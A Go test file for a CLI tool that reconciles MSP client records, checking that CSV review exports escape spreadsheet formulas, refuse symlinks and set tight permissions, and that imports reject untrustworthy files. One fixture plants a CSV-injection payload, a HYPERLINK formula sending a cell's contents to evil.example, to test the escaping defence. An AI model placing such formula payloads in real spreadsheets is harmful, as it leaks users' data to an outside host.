package cli_test

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/mspwire/mspwire/store"
)

// exported exports the review of a tenant whose HaloPSA has a client
// named like a spreadsheet formula, and reads the file back.
func exported(t *testing.T) (dir string, run func(...string) (string, string, int), file string, rows [][]string) {
	t.Helper()
	dir, run = reviewTenant(t)
	st, err := store.Open(ctx, dir)
	if err != nil {
		t.Fatal(err)
	}
	recs, _ := st.Records(ctx, "default", "halopsa")
	recs = append(recs, store.InventoryRecord{ExternalID: "6", Name: `=HYPERLINK("https://evil.example/?x="&A1,"click")`},
		store.InventoryRecord{ExternalID: "7", Name: "@SUM(1+1)"})
	if err := st.ReplaceRecords(ctx, "default", "halopsa", recs); err != nil {
		t.Fatal(err)
	}
	st.Close()
	if _, stderr, code := run("match", "suggest"); code != 0 {
		t.Fatalf("suggest: %s", stderr)
	}
	file = filepath.Join(t.TempDir(), "review.csv")
	if _, stderr, code := run("match", "export", file); code != 0 {
		t.Fatalf("export: exit %d: %s", code, stderr)
	}
	f, err := os.Open(file)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err = csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return dir, run, file, rows
}

// The export escapes cells a spreadsheet would run (OWASP's CSV injection
// advice), writes the file for the operator alone whatever was there, and
// never writes through a symbolic link; importing it back reads the
// escaped names as they were.
func TestReviewExportIsSafeToOpenInASpreadsheet(t *testing.T) {
	_, run, file, rows := exported(t)
	for _, r := range rows {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Fatalf("a cell a spreadsheet would run: %q", cell)
			}
		}
	}
	if !strings.Contains(strings.Join(rows[len(rows)-1], ","), `'@SUM(1+1)`) && !strings.Contains(flat(rows), `'=HYPERLINK(`) {
		t.Fatalf("the formula names are not escaped:\n%s", flat(rows))
	}
	if _, stderr, code := run("match", "import", file); code != 0 || !strings.Contains(stderr, "changes nothing") {
		t.Fatalf("the escaped names did not read back as themselves: exit %d: %s", code, stderr)
	}
	if err := os.WriteFile(file, []byte("old"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, stderr, code := run("match", "export", file); code != 0 {
		t.Fatalf("export over a file: %s", stderr)
	}
	if info, _ := os.Stat(file); info.Mode().Perm() != 0o600 {
		t.Fatalf("the export over a 0644 file is %v", info.Mode().Perm())
	}
	target := filepath.Join(t.TempDir(), "precious.txt")
	os.WriteFile(target, []byte("keep me"), 0o644)
	link := filepath.Join(t.TempDir(), "link.csv")
	os.Symlink(target, link)
	if _, stderr, code := run("match", "export", link); code == 0 || !strings.Contains(stderr, "symbolic link") {
		t.Fatalf("export through a symlink: exit %d: %s", code, stderr)
	}
	if b, _ := os.ReadFile(target); string(b) != "keep me" {
		t.Fatal("the symlink's target was overwritten")
	}
}

func flat(rows [][]string) string {
	var b strings.Builder
	for _, r := range rows {
		b.WriteString(strings.Join(r, ",") + "\n")
	}
	return b.String()
}

// An imported review file is refused whole, nothing applied, when it is
// over the size limit, gives a row twice with different decisions, or
// edits a row's left_id or pair; a UTF-8 byte-order mark (Excel's "CSV
// UTF-8") is read.
func TestReviewImportRefusesWhatItCannotTrust(t *testing.T) {
	_, run, _, rows := exported(t)
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	write := func(bom bool, edit func([][]string) [][]string) string {
		t.Helper()
		cp := make([][]string, len(rows))
		for i := range rows {
			cp[i] = append([]string(nil), rows[i]...)
		}
		cp = edit(cp)
		path := filepath.Join(t.TempDir(), "edited.csv")
		f, _ := os.Create(path)
		if bom {
			f.WriteString("\xef\xbb\xbf")
		}
		w := csv.NewWriter(f)
		w.WriteAll(cp)
		f.Close()
		return path
	}
	decided := func() int {
		n := 0
		for _, r := range listRows(t, run) {
			if r.State != "suggested" {
				n++
			}
		}
		return n
	}
	before := decided()

	twice := write(false, func(r [][]string) [][]string {
		a, b := append([]string(nil), r[1]...), append([]string(nil), r[1]...)
		a[col["decision"]], b[col["decision"]] = "create", "ignore"
		return append(r, a, b)
	})
	if _, stderr, code := run("match", "import", twice); code == 0 || !strings.Contains(stderr, "is also on line") {
		t.Fatalf("a row twice: exit %d: %s", code, stderr)
	}
	left := write(false, func(r [][]string) [][]string {
		r[1][col["left_id"]], r[1][col["decision"]] = "999", "create"
		return r
	})
	if _, stderr, code := run("match", "import", left); code == 0 || !strings.Contains(stderr, "the id decides which row a line is") {
		t.Fatalf("an edited left_id: exit %d: %s", code, stderr)
	}
	big := filepath.Join(t.TempDir(), "big.csv")
	f, _ := os.Create(big)
	f.WriteString(strings.Join(rows[0], ",") + "\n")
	f.Truncate(65 << 20)
	f.Close()
	if _, stderr, code := run("match", "import", big); code == 0 || !strings.Contains(stderr, "over the 64 MiB") || !strings.Contains(stderr, "nothing was applied") {
		t.Fatalf("a 65 MiB file: exit %d: %s", code, stderr)
	}
	if decided() != before {
		t.Fatal("a refused file changed decisions")
	}
	bom := write(true, func(r [][]string) [][]string {
		r[1][col["decision"]] = "create"
		return r
	})
	if _, stderr, code := run("match", "import", bom); code != 0 || decided() != before+1 {
		t.Fatalf("a file with a byte-order mark: exit %d: %s", code, stderr)
	}
}

// accept --band strong over every pair is one action: undo takes it all
// back, in both pairs; "accept 1 1 1" decides one row and says so.
func TestBulkAcceptIsOneAction(t *testing.T) {
	_, run := reviewTenant(t)
	if _, stderr, code := run("match", "suggest"); code != 0 {
		t.Fatal(stderr)
	}
	if _, stderr, code := run("match", "accept", "--band", "strong"); code != 0 || !strings.Contains(stderr, "as one action") {
		t.Fatalf("accept --band strong: exit %d: %s", code, stderr)
	}
	pairs := map[string]int{}
	for _, r := range listRows(t, run) {
		if r.State == "accepted" {
			pairs[r.Pair]++
		}
	}
	if len(pairs) < 2 {
		t.Fatalf("accepted in %v: the test needs two pairs", pairs)
	}
	if _, stderr, code := run("match", "undo"); code != 0 {
		t.Fatal(stderr)
	}
	for _, r := range listRows(t, run) {
		if r.State == "accepted" {
			t.Fatalf("one undo left %s row %d accepted", r.Pair, r.ID)
		}
	}
	id := listRows(t, run)[0].ID
	one := strconv.FormatInt(id, 10)
	if _, stderr, code := run("match", "new", one, one, one); code != 0 || !strings.Contains(stderr, "1 row(s)") {
		t.Fatalf("new %s %s %s: exit %d: %s", one, one, one, code, stderr)
	}
}

// One to one holds: a re-map onto a record another row holds is refused,
// naming that row; a row whose twin took its best match says so.
func TestARemapOntoATakenRecordIsRefused(t *testing.T) {
	dir, run := reviewTenant(t)
	st, _ := store.Open(ctx, dir)
	recs, _ := st.Records(ctx, "default", "halopsa")
	recs = append(recs, store.InventoryRecord{ExternalID: "8", Name: "Summit Roofing"}) // a twin of client 4
	st.ReplaceRecords(ctx, "default", "halopsa", recs)
	st.Close()
	if _, stderr, code := run("match", "suggest"); code != 0 {
		t.Fatal(stderr)
	}
	var holder, twin listed
	for _, r := range listRows(t, run, "--pair", "halopsa:liongard") {
		switch {
		case r.Left.Name == "Summit Roofing" && r.Right != nil:
			holder = r
		case r.Left.Name == "Summit Roofing":
			twin = r
		}
	}
	if holder.ID == 0 || twin.ID == 0 {
		t.Fatalf("no twin rows: %+v %+v", holder, twin)
	}
	list, _, _ := run("match", "list", "--pair", "halopsa:liongard")
	if !strings.Contains(list, "its twin") {
		t.Fatalf("the twin's reason does not say its match went to its twin:\n%s", list)
	}
	if _, stderr, code := run("match", "accept", strconv.FormatInt(holder.ID, 10)); code != 0 {
		t.Fatal(stderr)
	}
	_, stderr, code := run("match", "remap", strconv.FormatInt(twin.ID, 10), "--to", holder.Right.ID)
	if code == 0 || !strings.Contains(stderr, "already linked to row "+strconv.FormatInt(holder.ID, 10)) {
		t.Fatalf("remap onto a taken record: exit %d: %s", code, stderr)
	}
}
